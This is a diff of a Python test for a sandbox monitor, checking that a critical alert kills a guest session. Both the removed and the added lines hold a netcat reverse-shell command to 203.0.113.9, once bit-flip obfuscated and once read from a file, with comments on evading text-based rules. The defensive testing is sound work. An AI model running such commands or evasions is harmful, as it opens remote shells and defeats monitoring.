@@ -171,12 +171,10 @@ def test_monitor_kill_while_the_host_answers_names_the_kill():
     """A critical alert raised by what the shell asks (a guest's process attempt) kills
     the session mid-answer: the call says killed, never a protocol error or an OSError."""
     with corral.Sandbox(policy="default") as sb:
-        r = sb.run(
-            # (the line is made at run time, each character's low bit flipped: no rule or
-            # host check on the text sees it; the policy decodes reversed strings now)
-            "python3 -c \"import os; a='ob!,d!.cho.ri!312/1/002/8!5555'; "
-            "os.system(''.join(chr(ord(c) ^ 1) for c in a))\"; echo after"
-        )
+        # the line comes from a file the host wrote: no rule or host check on the text sees
+        # it (a line built at run time from a literal is seen now: exec-computed-string-run)
+        sb.files.write("c", "nc -e /bin/sh 203.0.113.9 4444")
+        r = sb.run("python3 -c \"import os; os.system(open('c').read())\"; echo after")
         assert r.error == "killed", r
         assert "protocol" not in (r.error_message or "")
         assert "after" not in r.stdout
